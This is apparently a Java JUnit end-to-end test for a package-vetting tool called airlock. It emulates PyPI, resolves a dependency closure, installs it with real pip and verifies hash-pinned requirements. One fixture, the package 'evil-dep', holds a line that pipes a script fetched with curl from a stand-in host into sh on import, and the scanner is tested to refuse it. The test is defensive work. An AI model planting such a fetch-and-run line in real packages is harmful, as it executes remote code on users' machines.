package dev.airlock.bootstrap;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.junit5.WireMockRuntimeInfo;
import com.github.tomakehurst.wiremock.junit5.WireMockTest;
import dev.airlock.bootstrap.AirlockProcess.Run;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A release row ({@code top-pkg==1.0}) brings its whole dependency closure through the airlock: the
 * real CLI resolves it against a PyPI emulation on loopback (JSON API, PEP 658 metadata and real
 * wheels built here), scans and publishes each artifact, leaves out the one a marker excludes, and
 * the real {@code pip} then installs the package with its dependencies from the data dir's index alone.
 */
@WireMockTest
class ClosureEndToEndTest {
  private static final long TOOL_TIMEOUT_SECONDS = 300;

  @TempDir
  Path work;

  /** One release of the emulated registry: a wheel, its metadata, and whether PEP 658 serves the metadata. */
  private record Release(String name, String version, List<String> requires, Map<String, String> files,
      boolean pep658) {}

  @Test
  void shouldPublishWholeClosureAndLetRealPipInstallItWhenReleaseRowIsRequested(WireMockRuntimeInfo wm)
      throws Exception {
    assumeTrue(tool("python3", "-m", "pip", "--version").code() == 0,
        "python3 with pip is not installed: the pip install of a closure did NOT run");
    // Given: top-pkg 1.0 needs mid-pkg >=1.0,<2 (1.0, 1.1 and 2.0 exist), leaf-pkg (no PEP 658 metadata:
    // read from the wheel), and win-helper only on Windows
    serve(wm, List.of(
        new Release("top-pkg", "1.0", List.of("mid-pkg>=1.0,<2", "win-helper; sys_platform == \"win32\""),
            Map.of("top_pkg/__init__.py", "from mid_pkg import twice\n\ndef answer():\n    return twice(21)\n"), true),
        new Release("mid-pkg", "1.0", List.of(), Map.of("mid_pkg/__init__.py", "def twice(x):\n    return x\n"), true),
        new Release("mid-pkg", "1.1", List.of("leaf-pkg"),
            Map.of("mid_pkg/__init__.py", "from leaf_pkg import TWO\n\ndef twice(x):\n    return TWO * x\n"), true),
        new Release("mid-pkg", "2.0", List.of(), Map.of("mid_pkg/__init__.py", "def twice(x):\n    return 0\n"), true),
        new Release("leaf-pkg", "1.0", List.of(), Map.of("leaf_pkg/__init__.py", "TWO = 2\n"), false),
        new Release("win-helper", "1.0", List.of(), Map.of("win_helper/__init__.py", "X = 1\n"), true)));
    Files.writeString(work.resolve("requests.csv"), "top-pkg==1.0\n");

    // When
    Run run = AirlockProcess.run(work, Map.of(), List.of("run", "requests.csv", "--allow-host",
        "localhost:" + wm.getHttpPort(), "--pypi-url", wm.getHttpBaseUrl()));

    // Then: every artifact of the closure was decided and published, the Windows-only one never fetched
    assertThat(run.code()).as(run.out() + run.err()).isZero();
    Path simple = work.resolve("airlock-data/repository/simple");
    assertThat(simple.resolve("top-pkg")).isDirectory();
    assertThat(simple.resolve("mid-pkg")).isDirectory();
    assertThat(simple.resolve("leaf-pkg")).isDirectory();
    assertThat(simple.resolve("win-helper")).doesNotExist();
    wm.getWireMock().verifyThat(0, getRequestedFor(urlPathEqualTo("/files/win_helper-1.0-py3-none-any.whl")));
    wm.getWireMock().verifyThat(0, getRequestedFor(urlPathEqualTo("/files/mid_pkg-2.0-py3-none-any.whl")));
    assertThat(run.out()).contains("top-pkg 1.0: APPROVED", "mid-pkg 1.1: APPROVED", "leaf-pkg 1.0: APPROVED");

    // When: the real pip, the data dir's index and nothing else, resolution on
    Path target = work.resolve("site-packages");
    PackageTools.Result pip = tool("python3", "-m", "pip", "install", "--index-url", simple.toUri().toString(), "--target",
        target.toString(), "--no-cache-dir", "--disable-pip-version-check", "top-pkg==1.0");

    // Then
    assertThat(pip.code()).as(pip.output()).isZero();
    assertThat(pip.output()).contains("Successfully installed").contains("top-pkg-1.0", "mid-pkg-1.1",
        "leaf-pkg-1.0");
    PackageTools.Result use = tool(Map.of("PYTHONPATH", target.toString()), "python3", "-c",
        "import top_pkg; print(top_pkg.answer())");
    assertThat(use.output().strip()).isEqualTo("42");

    // And the run's requirements.txt pins the closure with hashes, which the real pip accepts in
    // --require-hashes mode against the same index (the marker-excluded dependency is not in it)
    Path requirements = work.resolve("airlock-data/reports/requirements.txt");
    assertThat(Files.readString(requirements)).contains("top-pkg==1.0 \\\n    --hash=sha256:",
        "mid-pkg==1.1 \\\n    --hash=sha256:", "leaf-pkg==1.0 \\\n    --hash=sha256:").doesNotContain("win-helper");
    Path hashed = work.resolve("site-packages-hashed");
    PackageTools.Result locked = tool("python3", "-m", "pip", "install", "--require-hashes", "--index-url",
        simple.toUri().toString(), "--target", hashed.toString(), "--no-cache-dir", "--disable-pip-version-check",
        "-r", requirements.toString());
    assertThat(locked.code()).as(locked.output()).isZero();
    assertThat(tool(Map.of("PYTHONPATH", hashed.toString()), "python3", "-c",
        "import top_pkg; print(top_pkg.answer())").output().strip()).isEqualTo("42");

    // And a second run reuses every decision instead of scanning again
    Run again = AirlockProcess.run(work, Map.of(), List.of("run", "requests.csv", "--allow-host",
        "localhost:" + wm.getHttpPort(), "--pypi-url", wm.getHttpBaseUrl()));
    assertThat(again.code()).as(again.out() + again.err()).isZero();
    assertThat(again.out()).contains("0 approved, 0 refused, 0 error, 3 already decided")
        .containsPattern("top-pkg +APPROVED \\(earlier\\)")
        .containsPattern("leaf-pkg \\(for top-pkg==1\\.0\\) +APPROVED \\(earlier\\)")
;
    assertThat(Files.readString(work.resolve("airlock-data/reports/airlock-summary.md")))
        .contains("### top-pkg==1.0: APPROVED (closure of 3 artifacts)", "- top-pkg 1.0: APPROVED (reused)",
            "    - leaf-pkg 1.0: APPROVED (reused)");
  }

  @Test
  void shouldRefuseTopAndNameDependencyWhenOneDependencyIsMalicious(WireMockRuntimeInfo wm) throws Exception {
    // Given: app-pkg needs clean-dep and evil-dep, whose import runs a downloaded script
    serve(wm, List.of(
        new Release("app-pkg", "1.0", List.of("clean-dep", "evil-dep>=0.1"),
            Map.of("app_pkg/__init__.py", "X = 1\n"), true),
        new Release("clean-dep", "1.0", List.of(), Map.of("clean_dep/__init__.py", "Y = 2\n"), true),
        new Release("evil-dep", "0.3", List.of(), Map.of("evil_dep/__init__.py",
            "import os\nos.system(\"curl -fsSL https://evil.invalid/bootstrap.sh | sh\")\n"), true)));
    Files.writeString(work.resolve("requests.csv"), "app-pkg==1.0\n");

    // When
    Run run = AirlockProcess.run(work, Map.of(), List.of("run", "requests.csv", "--allow-host",
        "localhost:" + wm.getHttpPort(), "--pypi-url", wm.getHttpBaseUrl()));

    // Then: neither the top package nor the malicious dependency is installable; the message names it
    Path simple = work.resolve("airlock-data/repository/simple");
    assertThat(run.out()).contains("app-pkg is refused: its dependency evil-dep 0.3 is refused");
    assertThat(simple.resolve("app-pkg")).doesNotExist();
    assertThat(simple.resolve("evil-dep")).doesNotExist();
    assertThat(simple.resolve("clean-dep")).as("a clean dependency is an approval of its own").isDirectory();

    // And the table, the Markdown summary and the JSON report say what the refused dependency blocks
    assertThat(run.out()).containsPattern("evil-dep \\(blocks app-pkg==1\\.0\\) +REFUSED")
        .contains("It blocks the requested app-pkg==1.0");
    String markdown = Files.readString(work.resolve("airlock-data/reports/airlock-summary.md"));
    assertThat(markdown).contains("### app-pkg==1.0: BLOCKED (closure of 3 artifacts)")
        .contains("  - evil-dep 0.3: REFUSED - 1 blocking finding(s)")
        .contains("  - clean-dep 1.0: APPROVED (new)");
    JsonNode report = new ObjectMapper().readTree(work.resolve("airlock-data/reports/airlock-report.json").toFile());
    assertThat(report.path("schemaVersion").asInt()).isEqualTo(2);
    JsonNode top = report.path("requests").get(0);
    assertThat(top.path("closure").path("tree").path("verdict").asText()).isEqualTo("BLOCKED");
    assertThat(top.path("closure").path("tree").path("dependencies").findValuesAsText("name"))
        .containsExactlyInAnyOrder("clean-dep", "evil-dep");
    assertThat(Files.readString(work.resolve("airlock-data/reports/requirements.txt")))
        .contains("# not included: app-pkg==1.0 is BLOCKED").doesNotContain("\nevil-dep==");
  }

  /** Serves the JSON API, the wheels and (where asked) their PEP 658 metadata. */
  private static void serve(WireMockRuntimeInfo wm, List<Release> releases) throws Exception {
    Map<String, StringBuilder> projects = new LinkedHashMap<>();
    for (Release release : releases) {
      String dist = release.name().replace('-', '_');
      String fileName = dist + "-" + release.version() + "-py3-none-any.whl";
      String metadata = metadata(release);
      byte[] wheel = wheel(release, metadata);
      String sha256 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(wheel));
      wm.getWireMock().register(get(urlPathEqualTo("/files/" + fileName))
          .willReturn(aResponse().withStatus(200).withBody(wheel)));
      if (release.pep658()) {
        wm.getWireMock().register(get(urlPathEqualTo("/files/" + fileName + ".metadata"))
            .willReturn(aResponse().withStatus(200).withBody(metadata)));
      }
      StringBuilder json = projects.computeIfAbsent(release.name(), n -> new StringBuilder());
      json.append(json.isEmpty() ? "" : ",").append('"').append(release.version()).append("\":[{\"filename\":\"")
          .append(fileName).append("\",\"url\":\"").append(wm.getHttpBaseUrl()).append("/files/").append(fileName)
          .append("\",\"digests\":{\"sha256\":\"").append(sha256)
          .append("\"},\"packagetype\":\"bdist_wheel\",\"requires_python\":\">=3.8\",\"yanked\":false,")
          .append("\"upload_time_iso_8601\":\"2024-05-01T10:00:00.000000Z\"}]");
    }
    for (var project : projects.entrySet()) {
      wm.getWireMock().register(get(urlPathEqualTo("/pypi/" + project.getKey() + "/json"))
          .willReturn(aResponse().withStatus(200).withHeader("Content-Type", "application/json")
              .withBody("{\"info\":{\"name\":\"" + project.getKey() + "\"},\"releases\":{" + project.getValue()
                  + "}}")));
    }
  }

  private static String metadata(Release release) {
    StringBuilder s = new StringBuilder("Metadata-Version: 2.3\nName: " + release.name() + "\nVersion: "
        + release.version() + "\nLicense: MIT\nRequires-Python: >=3.8\n");
    release.requires().forEach(r -> s.append("Requires-Dist: ").append(r).append('\n'));
    return s.toString();
  }

  /** A real wheel, as pip expects one: the module, METADATA, WHEEL and a RECORD with hashes. */
  private static byte[] wheel(Release release, String metadata) throws Exception {
    String distInfo = release.name().replace('-', '_') + "-" + release.version() + ".dist-info/";
    Map<String, String> files = new LinkedHashMap<>(release.files());
    files.put(distInfo + "METADATA", metadata);
    files.put(distInfo + "WHEEL", "Wheel-Version: 1.0\nGenerator: airlock-test\nRoot-Is-Purelib: true\n"
        + "Tag: py3-none-any\n");
    StringBuilder record = new StringBuilder();
    for (var file : files.entrySet()) {
      byte[] data = file.getValue().getBytes(StandardCharsets.UTF_8);
      String hash = Base64.getUrlEncoder().withoutPadding()
          .encodeToString(MessageDigest.getInstance("SHA-256").digest(data));
      record.append(file.getKey()).append(",sha256=").append(hash).append(',').append(data.length).append('\n');
    }
    record.append(distInfo).append("RECORD,,\n");
    files.put(distInfo + "RECORD", record.toString());
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (var file : files.entrySet()) {
        zip.putNextEntry(new ZipEntry(file.getKey()));
        zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
      }
    }
    return bytes.toByteArray();
  }

  private PackageTools.Result tool(String... command) throws Exception {
    return tool(Map.of(), command);
  }

  private PackageTools.Result tool(Map<String, String> extra, String... command) throws Exception {
    return PackageTools.run(work, TOOL_TIMEOUT_SECONDS, extra, command);
  }
}
